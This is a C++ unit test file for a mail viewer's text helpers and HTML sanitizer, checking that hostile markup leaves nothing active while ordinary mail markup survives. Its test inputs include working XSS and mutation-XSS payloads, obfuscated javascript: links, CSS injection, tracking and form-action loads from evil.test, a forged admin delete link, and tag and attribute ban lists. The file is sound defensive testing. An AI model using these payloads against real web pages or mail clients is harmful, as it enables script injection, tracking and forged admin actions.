// The text helpers of the mail list and view, and the safe HTML of the mail view: each hostile
// construct is shown to leave nothing active behind, and ordinary mail markup to survive.
#include <gtest/gtest.h>
#include <gumbo.h>

#include <cstdint>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "../platform_testdir.h"
#include "browse/contact_calendar_browse.h"
#include "browse/mail_files.h"
#include "browse/mail_view.h"
#include "browse/safe_html.h"
#include "common/mailheader.h"
#include "plat_json.h"

namespace {

using Strings = std::vector<std::string>;
using qlm::Get_First_Header_Value;
using qlm::parseNameEmail;

TEST(MailText, RemoveOuterQuotes) {
    const std::pair<std::string, std::string> cases[] = {
        {"\"Doe, Jane\"", "Doe, Jane"}, {"\"", "\""}, {"\"\"", ""}, {"\"a", "\"a"},
        {"a\"", "a\""},                 {"\"\"x\"\"", "\"x\""}, {"", ""},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::removeOuterQuotes(in), out) << in;
}

TEST(MailText, ParseNameEmailAndFirstHeader) {
    struct Case {
        std::string header, name, email;
    } cases[] = {
        {"\"Doe, Jane\" <jane@x.test>", "\"Doe, Jane\"", "jane@x.test"},
        {"  Bob \t<bob@x.test>  ", "Bob", "bob@x.test"},
        {"<only@x.test>", "", "only@x.test"},
        {"plain@x.test", "plain@x.test", "plain@x.test"},
        {"a > b < c", "a > b < c", "a > b < c"},  // no ">" after the "<"
        {" \t ", "", ""},
    };
    for (const Case& c : cases) {
        std::string name = "old", email = "old";
        parseNameEmail(c.header, name, email);
        EXPECT_EQ(name, c.name) << c.header;
        EXPECT_EQ(email, c.email) << c.header;
    }
    RAIIful_Json dump(Json_From_String(
        R"({"headers": {"From": ["first", "second"], "To": [], "Date": "not a list", "X": [7]}})"));
    PT_JSON headers = nullptr;
    ASSERT_EQ(Json_Dict_Find_Dict(dump.get(), "headers", headers), 0);
    EXPECT_EQ(Get_First_Header_Value(headers, "From"), "first");
    for (const char* key : {"To", "Date", "X", "Subject"}) EXPECT_EQ(Get_First_Header_Value(headers, key), "") << key;
    EXPECT_EQ(Get_First_Header_Value(nullptr, "From"), "");
}

TEST(MailText, ExtractImgAltTexts) {
    const std::pair<std::string, Strings> cases[] = {
        {R"(<img alt="a.png" src="x"><img src='y' alt='b c.gif'>)", {"a.png", "b c.gif"}},
        {R"(<img alt="d"><IMG alt="e"><img alt="d">)", {"d", "d"}},  // "<img" is case-sensitive, duplicates kept
        {R"(<img alt=bare src="x"><img alt="after">)", {"after"}},   // an unquoted value is skipped
        {R"(<img src="x"><p title="t" alt="next">)", {"next"}},      // the search runs past the tag
        {R"(<img alt="open)", {}},
        {"no images", {}},
    };
    for (const auto& [html, alts] : cases) EXPECT_EQ(qlm::extractImgAltTexts(html), alts) << html;
}

TEST(MailText, ReplaceImgSrcByAlt) {
    const std::string uri = "data:image/jpeg;base64,QUJD";
    const std::pair<std::string, std::string> cases[] = {
        {R"(<img alt="a" src="cid:1"> <img src='cid:2' alt='a'>)",
         R"(<img alt="a" src=")" + uri + R"("> <img src=')" + uri + R"(' alt='a'>)"},
        {R"(<img alt="b" src="cid:1">)", R"(<img alt="b" src="cid:1">)"},  // another alt
        {R"(<img alt="a" src=cid:1>)", R"(<img alt="a" src=cid:1>)"},      // no quoted src
        {R"(<img alt="ab" src="x">)", R"(<img alt="ab" src="x">)"},        // exact match only
        {R"(<img alt="a" src="x")", R"(<img alt="a" src="x")"},            // no end of tag
    };
    for (const auto& [in, out] : cases) {
        std::string html = in;
        qlm::replaceImgSrcByAlt(html, "a", "QUJD");
        EXPECT_EQ(html, out) << in;
    }
}

// The image data written into one view stops at its budget: the tags past it keep their source
// (and so show their alt text), smaller images after them still fit, and the rest is untouched.
TEST(MailText, EmbeddingStopsAtItsBudget) {
    const Base64_Parts images{{"big", std::make_shared<const std::string>("QUJDREVG")},
                                   {"small", std::make_shared<const std::string>("QQ==")}};
    const std::string big = "data:image/jpeg;base64,QUJDREVG", small = "data:image/jpeg;base64,QQ==";
    const std::string html = R"(<img alt="big" src="1"><img alt="big" src="2"><img alt="small" src="3">)"
                             R"(<img alt="none" src="4"><img alt="big" src="5">)";
    const std::pair<size_t, std::string> cases[] = {
        {SIZE_MAX, R"(<img alt="big" src=")" + big + R"("><img alt="big" src=")" + big + R"("><img alt="small" src=")" +
                       small + R"("><img alt="none" src="4"><img alt="big" src=")" + big + R"(">)"},
        {big.size() + small.size(), R"(<img alt="big" src=")" + big + R"("><img alt="big" src="2"><img alt="small" src=")" +
                                        small + R"("><img alt="none" src="4"><img alt="big" src="5">)"},
        {big.size() - 1, R"(<img alt="big" src="1"><img alt="big" src="2"><img alt="small" src=")" + small +
                             R"("><img alt="none" src="4"><img alt="big" src="5">)"},
        {0, html},
    };
    for (const auto& [budget, out] : cases) EXPECT_EQ(qlm::Embed_Images_By_Alt(html, images, budget), out) << budget;
}

// The mail that once grew to gigabytes: one image named by thousands of tags. The view holds at
// most twice the mail's size of image data, and the tags past that show their alt text.
TEST(MailView, OneImageNamedByThousandsOfTagsStaysWithinTwiceTheMail) {
    plattest::TempDir dir;
    const std::string eml = dir / "mail";
    const std::string data(200000, 'A');
    std::string html;
    for (int i = 0; i < 4000; ++i) html += "<img alt=\"a.png\" src=\"cid:a\">";
    std::ofstream(eml) << "Content-Type: multipart/related; boundary=\"B\"\r\n\r\n--B\r\nContent-Type: text/html\r\n\r\n"
                       << html << "\r\n--B\r\nContent-Type: image/png; name=\"a.png\"\r\n"
                       << "Content-Transfer-Encoding: base64\r\n\r\n" << data << "\r\n--B--\r\n";
    const int64_t mailSize = qlm::getFileSize(eml);
    const std::string out = qlm::Mail_View_Html(html, eml);
    size_t embedded = 0;
    for (size_t at = out.find(data); at != std::string::npos; at = out.find(data, at + data.size())) ++embedded;
    EXPECT_EQ(embedded, static_cast<size_t>(2 * mailSize) / (data.size() + 23));
    EXPECT_LE(out.size(), html.size() + 2 * static_cast<size_t>(mailSize));
    EXPECT_NE(out.find("<img alt=\"a.png\"><img"), std::string::npos);  // past the budget: the alt text
}

TEST(MailText, MemberAmountIsDecimalOnly) {
    const std::pair<const char*, int> cases[] = {
        {"12", 12}, {"0", 0}, {"", 0}, {nullptr, 0}, {"12x", 0}, {"-3", 0}, {" 4", 0}, {"99999999999999", 0},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::Member_Amount(in), out) << (in ? in : "NULL");
}

TEST(SafeHtml, Base64Alphabet) {
    EXPECT_TRUE(qlm::Is_Base64_Text("iVBORw0KGgo+/=="));
    for (const char* bad : {"", "QUJD\"", "QU JD", "QUJD\n", "QUJD<", "QU%4A"}) EXPECT_FALSE(qlm::Is_Base64_Text(bad)) << bad;
}

std::string Lower(std::string s) {
    for (char& c : s) c = static_cast<char>(tolower(static_cast<unsigned char>(c)));
    return s;
}

bool Starts_With(const std::string& s, const char* prefix) { return s.rfind(prefix, 0) == 0; }

// The output read back by the HTML5 parser, as a browser would: no element or attribute that
// runs, loads or names anything of the admin page may be there.
void Expect_Inert_Node(const GumboNode* node, const std::string& input) {
    if (node->type != GUMBO_NODE_ELEMENT && node->type != GUMBO_NODE_DOCUMENT) {
        EXPECT_NE(node->type, GUMBO_NODE_COMMENT) << input;
        EXPECT_NE(node->type, GUMBO_NODE_TEMPLATE) << input;
        return;
    }
    const GumboVector* children = &node->v.document.children;
    if (node->type == GUMBO_NODE_ELEMENT) {
        const GumboElement& el = node->v.element;
        children = &el.children;
        const std::string tag = gumbo_normalized_tagname(el.tag);
        for (const char* banned : {"script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input",
                                   "button", "textarea", "base", "link", "meta", "svg", "math", "video", "audio",
                                   "source", "noscript", "template"})
            EXPECT_NE(tag, banned) << input;
        EXPECT_EQ(el.tag_namespace, GUMBO_NAMESPACE_HTML) << input;
        for (unsigned i = 0; i < el.attributes.length; ++i) {
            const auto* attr = static_cast<const GumboAttribute*>(el.attributes.data[i]);
            const std::string name = Lower(attr->name), value = Lower(attr->value);
            EXPECT_FALSE(Starts_With(name, "on")) << name << " from " << input;
            for (const char* banned : {"srcset", "background", "id", "class", "name", "action", "poster", "data"})
                EXPECT_NE(name, banned) << input;
            if (name == "href") {
                // As the URL parser reads it: an http address without "//" is relative to the page.
                std::string url;
                for (char c : value)
                    if (c != '\t' && c != '\n' && c != '\r') url += c;
                url.erase(0, url.find_first_not_of(" \f"));
                EXPECT_TRUE(Starts_With(url, "https://") || Starts_With(url, "http://") || Starts_With(url, "mailto:"))
                    << value << " from " << input;
            }
            if (name == "src") {
                EXPECT_TRUE(Starts_With(value, "data:image/")) << value << " from " << input;
            }
            if (name == "style") {
                for (const char* banned : {"url(", "expression", "@import", "binding", "behavior", "\\"})
                    EXPECT_EQ(value.find(banned), std::string::npos) << value << " from " << input;
            }
        }
    }
    for (unsigned i = 0; i < children->length; ++i)
        Expect_Inert_Node(static_cast<const GumboNode*>(children->data[i]), input);
}

void Expect_Inert(const std::string& out, const std::string& input) {
    GumboOutput* parsed = gumbo_parse(out.c_str());
    Expect_Inert_Node(parsed->document, input);
    gumbo_destroy_output(&kGumboDefaultOptions, parsed);
    // Nothing but the mail's own images is loaded: no absolute or protocol-relative address in a source.
    EXPECT_EQ(out.find("src=\"http"), std::string::npos) << input;
}

TEST(SafeHtml, HostileConstructsLeaveNothingActive) {
    const std::string hostile[] = {
        "<script>alert(1)</script><p>x</p>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.test/track.gif\" alt=\"pixel\">",
        "<img src=\"cid:part1\" alt=\"logo\">",
        "<img srcset=\"https://evil.test/a 1x\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\" &#14;javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"/webman/orvenna.cgi?act=delete\">x</a>",
        // Relative to the admin page too: no "//" after a scheme the page shares, or a blank or control
        // character inside the scheme.
        "<a href=\"http:/webman/orvenna.cgi?act=delete\">x</a>",
        "<a href=\"https:webman/orvenna.cgi?act=delete\">x</a>",
        "<a href=\"https:+/webman/orvenna.cgi\">x</a>",
        "<a href=\"http: //evil.test/\">x</a>",
        "<a href=\"ht&#1;tp://evil.test/\">x</a>",
        "<a href=\"ht tp://evil.test/\">x</a>",
        "<iframe src=\"https://evil.test\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<form action=\"https://evil.test\"><input name=p><button>go</button></form>",
        "<base href=\"https://evil.test/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
        "<link rel=stylesheet href=\"https://evil.test/x.css\">",
        "<style>@import url(https://evil.test/x.css); body{background:url(x)}</style>",
        "<div style=\"background:url(https://evil.test/x)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"background:u\\72l(https://evil.test/x)\">x</div>",
        "<div style=\"color:red;background-image:URL('x');\">x</div>",
        "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#y)\">x</div>",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<table background=\"https://evil.test/bg.png\"><tr><td>x</td></tr></table>",
        "<body onload=alert(1)><p>x</p></body>",
        "<video poster=\"https://evil.test/p.png\"><source src=\"x.mp4\"></video>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<p id=\"csrf-token\" class=\"admin-button\" name=\"x\">clobber</p>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<img src=\"data:image/png;base64,QUJD\"onerror=\"alert(1)\">",
        "<x-custom onclick=alert(1)>text</x-custom>",
        "<img src=\"data:image/jpeg;base64,QU\"JD\">",
    };
    for (const std::string& in : hostile) Expect_Inert(qlm::Safe_Mail_Html(in), in);
}

TEST(SafeHtml, OrdinaryMailMarkupSurvives) {
    const std::pair<std::string, std::string> cases[] = {
        {"<p>Hello <b>World</b> &amp; you</p>", "<p>Hello <b>World</b> &amp; you</p>"},
        {"<html><head><title>t</title></head><body><div align=\"center\">x</div></body></html>",
         "<div align=\"center\">x</div>"},
        {"<a href=\"https://example.test/a?b=1&amp;c=2\">link</a>",
         "<a href=\"https://example.test/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer\">link</a>"},
        {"<a href=\"mailto:a@example.test\">m</a>",
         "<a href=\"mailto:a@example.test\" target=\"_blank\" rel=\"noopener noreferrer\">m</a>"},
        {"<img alt=\"logo\" src=\"data:image/jpeg;base64,QUJD\" width=\"10\">",
         "<img alt=\"logo\" src=\"data:image/jpeg;base64,QUJD\" width=\"10\">"},
        {"<img alt=\"pixel\" src=\"https://evil.test/t.gif\">", "<img alt=\"pixel\">"},
        {"<span style=\"color:red; font-weight:bold\">r</span>", "<span style=\"color:red; font-weight:bold\">r</span>"},
        {"<span style=\"color:red;background:url(x);font-size:2px\">r</span>",
         "<span style=\"color:red;font-size:2px\">r</span>"},
        {"<table border=\"1\"><tr><td colspan=\"2\">c</td></tr></table>",
         "<table border=\"1\"><tbody><tr><td colspan=\"2\">c</td></tr></tbody></table>"},
        {"<o:p>Outlook</o:p><br><hr>", "Outlook<br><hr>"},
        {"<p>1 &lt; 2 &gt; 0 \"q\"</p>", "<p>1 &lt; 2 &gt; 0 \"q\"</p>"},
        {"", ""},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::Safe_Mail_Html(in), out) << in;
}

// A mail must not lay anything over the page that shows it: positioning and stacking go, in any
// spelling a browser accepts, and the rest of the style stays.
TEST(SafeHtml, PositionAndStackingDeclarationsAreDropped) {
    const std::pair<std::string, std::string> cases[] = {
        {"<a href=\"https://x.test\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999\">x</a>",
         "<a href=\"https://x.test\" style=\"width:100%;height:100%\" target=\"_blank\" "
         "rel=\"noopener noreferrer\">x</a>"},
        {"<div style=\"POSITION : Absolute; color:red\">x</div>", "<div style=\" color:red\">x</div>"},
        {"<div style=\"color:red;\n\tposition:sticky !important\">x</div>", "<div style=\"color:red\">x</div>"},
        {"<div style=\"Z-Index:2147483647\">x</div>", "<div>x</div>"},
        {"<div style=\"posi&#116;ion:fixed;color:red\">x</div>", "<div style=\"color:red\">x</div>"},
        {"<div style=\"position/**/:fixed\">x</div>", "<div>x</div>"},
        // Properties that merely contain the words stay.
        {"<div style=\"background-position:0 0;list-style-position:inside\">x</div>",
         "<div style=\"background-position:0 0;list-style-position:inside\">x</div>"},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::Safe_Mail_Html(in), out) << in;
}

// Inline style keeps only what stays inside the mail's box: an allow list of properties, margins
// and indents only when not negative, display and vertical-align only in their in-flow values.
TEST(SafeHtml, StylesKeepOnlyWhatStaysInTheBox) {
    const char* const kept[] = {
        "color:#333",          "background-color:rgb(1, 2, 3)", "background:#fff",   "font-family:Arial, sans-serif",
        "font-size:14px",      "font-weight:bold",              "font:italic 12px serif", "text-align:center",
        "text-decoration:underline", "text-transform:uppercase", "line-height:1.4",  "padding:4px 8px",
        "padding-left:0",      "margin:0 auto",                 "margin-top:12px",   "margin-bottom: 1em !important",
        "text-indent:2em",     "letter-spacing:.08em",          "border:1px solid #ccc", "border-radius:8px",
        "border-collapse:collapse", "width:600px",              "height:20px",       "max-width:100%",
        "min-width:10px",      "display:block",                 "display:inline-block", "display:none",
        "display:table-cell",  "vertical-align:top",            "vertical-align:middle", "white-space:nowrap",
        "word-break:break-all", "list-style-type:disc",         "table-layout:fixed", "overflow:hidden",
        "clear:both",          "opacity:.5",
    };
    const char* const dropped[] = {
        "transform:scale(60)",      "transform:translate(0,-400px)", "TRANSFORM : rotate(180deg)",
        "-webkit-transform:scale(9)", "scale:60",                    "rotate:45deg",
        "translate:0 -400px",       "transform-origin:0 0",          "zoom:40",
        "margin-top:-400px",        "margin:0 0 0 -9999px",          "MARGIN-LEFT: -1px",
        "margin:calc(0px - 400px)", "margin-top:var(--x)",           "text-indent:-9999px",
        "letter-spacing:-20px",     "position:absolute",             "top:0",
        "left:-10px",               "right:0",                       "bottom:0",
        "inset:0",                  "inset-block-start:0",           "z-index:99",
        "float:left",               "box-shadow:0 -400px 0 900px red", "text-shadow:0 -300px red",
        "display:contents;",        "vertical-align:400px",          "vertical-align:-20%",
        "filter:blur(0)",           "perspective:10px",              "clip-path:inset(0)",
        "outline:9999px solid red", "content:'x'",                   "--x:-400px",
        "animation:spin 1s",        "will-change:transform",         "mask:none",
        "offset-path:none",         "contain:none",                  "cursor:pointer",
    };
    for (const char* style : kept) {
        const std::string in = std::string("<div style=\"") + style + "\">x</div>";
        EXPECT_EQ(qlm::Safe_Mail_Html(in), in) << style;
    }
    for (const char* style : dropped)
        EXPECT_EQ(qlm::Safe_Mail_Html(std::string("<div style=\"color:red;") + style + "\">x</div>"),
                  "<div style=\"color:red\">x</div>")
            << style;
}

// The view writes well-formed markup in one pass: elements a browser closes by themselves are
// closed where the browser would close them, stray end tags do nothing, and what the tags hold
// stays in place.
TEST(SafeHtml, TagsCloseAsABrowserClosesThem) {
    const std::pair<std::string, std::string> cases[] = {
        {"<p>one<p>two<div>three</div>", "<p>one</p><p>two</p><div>three</div>"},
        {"<ul><li>a<li>b<ul><li>c</ul><li>d</ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"},
        {"<dl><dt>t<dd>d<dt>u</dl>", "<dl><dt>t</dt><dd>d</dd><dt>u</dt></dl>"},
        // The next item closes the previous one with the paragraph it holds, and nothing more.
        {"<ul><li><p>a<li>b</ul>", "<ul><li><p>a</p></li><li>b</li></ul>"},
        {"<dl><dt><p>a<dd>b</dl>", "<dl><dt><p>a</p></dt><dd>b</dd></dl>"},
        {"<div><li><p>a<li>b</div>c", "<div><li><p>a</p></li><li>b</li></div>c"},
        {"<table><td>a<td>b<tr><td>c</table>",
         "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>"},
        {"<table><thead><tr><th>h<tbody><tr><td>x</table>",
         "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>x</td></tr></tbody></table>"},
        // An end tag does not reach past a table cell, nor a list item's past its list.
        {"<div><table><tr><td>x</div>y</td></tr></table>z</div>",
         "<div><table><tbody><tr><td>xy</td></tr></tbody></table>z</div>"},
        {"<li>a<ul><li>b</li></li>c</ul>", "<li>a<ul><li>b</li>c</ul></li>"},
        {"<b>bold<i>both</b>after", "<b>bold<i>both</i></b>after"},
        {"<p>a</p></p></i></table>b", "<p>a</p>b"},
        {"x</br>y", "x<br>y"},
        {"<div>open", "<div>open</div>"},
        // Only whole character references pass as they stand.
        {"a &amp; b &#169; &#xA9; &copy; &copy 2024 & c &#; &#x;", "a &amp; b &#169; &#xA9; &copy; &amp;copy 2024 &amp; c &amp;#; &amp;#x;"},
        {"&am<script>x</script>p;", "&amp;amp;"},
        // Comments, declarations and conditional comments go; a lone "<" is text.
        {"<!DOCTYPE html><!--[if mso]><p>mso</p><![endif]--><![if !mso]>a<![endif]><?xml x?>1 < 2", "a1 &lt; 2"},
        {"<!-->a<!--->b<!-- c --!>d</ x>e</>", "abde"},
        // Raw text ends only at its own end tag, in any case.
        {"<title>t <b></title><p>x<STYLE>p{}</b></sTyle >y", "<p>xy</p>"},
        {"<textarea><b>x</textarea>z", "z"},
        // A dropped element goes with what it holds, nested ones of the same name counted.
        {"a<svg><svg></svg><p>no</p></svg>b<svg/>c", "abc"},
        {"a<object><object>x</object>y</object>b", "ab"},
        {"<head><meta charset=x><link rel=x></head><body>kept<option>shown</body>", "keptshown"},
        {"a<plaintext><b>all text", "a"},
        {"a<b", "a"},
        {"a<p title=\"x", "a"},
        {std::string("a\0b<p title=\"c\0d\">", 18), "ab<p title=\"cd\"></p>"},
        // Attributes: the first of a name counts, names and values are read as a browser reads them.
        {"<p TITLE='a\"b' title=x align=center/>", "<p title=\"a&quot;b\" align=\"center/\"></p>"},
        {"<p title=&lt;&#x3C;&bogus;>", "<p title=\"&lt;&lt;&amp;bogus;\"></p>"},
        {"<a href=\"jav&#97;script&colon;alert(1)\">x</a>", "<a>x</a>"},
        {"<a href=\"ht&#x74;ps&colon;//x.test/?a=1&b=2\">x</a>",
         "<a href=\"https://x.test/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>"},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::Safe_Mail_Html(in), out) << in;
}

// What the view must leave out of a hostile mail it says in the page: tags nested past its depth
// (their text stays), and the rest of a mail whose markup would multiply in the output.
TEST(SafeHtml, WhatIsLeftOutIsNoted) {
    struct Case {
        std::string html;
        bool deep, large;
        std::string shown;
    };
    const auto repeat = [](const std::string& s, int n) {
        std::string out;
        for (int i = 0; i < n; ++i) out += s;
        return out;
    };
    const Case cases[] = {
        {repeat("<div>", 256) + "text" + repeat("</div>", 256), false, false, "text"},
        {repeat("<div>", 257) + "deep" + repeat("</div>", 257) + "after", true, false, "deep"},
        {repeat("<i>x", 50000) + "end", true, false, "end"},
        {repeat("<b></b>", 100000) + "end", false, false, "end"},
        {repeat("<p title='" + std::string(8000, '"') + "'>x</p>", 400), false, true, "x"},
        {std::string(3 << 20, '<') + "x", false, true, ""},
    };
    for (const Case& c : cases) {
        const std::string out = qlm::Safe_Mail_Html(c.html);
        EXPECT_EQ(out.rfind(qlm::kTooDeepNote, 0) == 0, c.deep) << c.html.substr(0, 40);
        const std::string large = qlm::kTooLargeNote;
        EXPECT_EQ(out.size() >= large.size() && out.compare(out.size() - large.size(), large.size(), large) == 0,
                  c.large)
            << c.html.substr(0, 40);
        EXPECT_NE(out.find(c.shown), std::string::npos) << c.html.substr(0, 40);
        EXPECT_LE(out.size(), 2 * c.html.size() + (4u << 20));
        // Well-formed: every element written is closed again.
        size_t opened = 0, closed = 0;
        for (size_t at = out.find('<'); at != std::string::npos; at = out.find('<', at + 1))
            ++(out[at + 1] == '/' ? closed : opened);
        EXPECT_EQ(opened, closed) << c.html.substr(0, 40);
    }
}

TEST(SafeHtml, DeepNestingDoesNotExhaustTheStack) {
    std::string deep;
    for (int i = 0; i < 200000; ++i) deep += "<span>";
    deep += "x";
    const std::string out = qlm::Safe_Mail_Html(deep);
    EXPECT_NE(out.find('x'), std::string::npos);
}

TEST(MailView, InlineImagesComeFromTheMailAndOnlyAsBase64) {
    plattest::TempDir dir;
    const std::string eml = dir / "mail";
    std::ofstream(eml) << "Content-Type: multipart/related; boundary=\"B\"\r\n\r\n"
                          "--B\r\nContent-Type: text/html\r\n\r\n<p>body</p>\r\n"
                          "--B\r\nContent-Type: image/png; name=\"logo.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                          "iVBORw0K\r\nGgo=\r\n"
                          "--B\r\nContent-Type: image/png; name=\"evil.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                          "QUJD\" onerror=\"alert(1)\r\n"
                          "--B--\r\n";
    const std::string html = "<p><img alt=\"logo.png\" src=\"cid:1\"><img alt=\"logo.png\" src=\"cid:2\">"
                             "<img alt=\"evil.png\" src=\"cid:3\"><img alt=\"none.png\" src=\"https://evil.test/x\"></p>";
    const std::string out = qlm::Mail_View_Html(html, eml);
    const std::string logo = "<img alt=\"logo.png\" src=\"data:image/jpeg;base64,iVBORw0KGgo=\">";
    EXPECT_EQ(out, "<p>" + logo + logo + "<img alt=\"evil.png\"><img alt=\"none.png\"></p>");
    EXPECT_EQ(qlm::Mail_View_Html("", eml), qlm::kNoBodyHtml);
}

}  // namespace
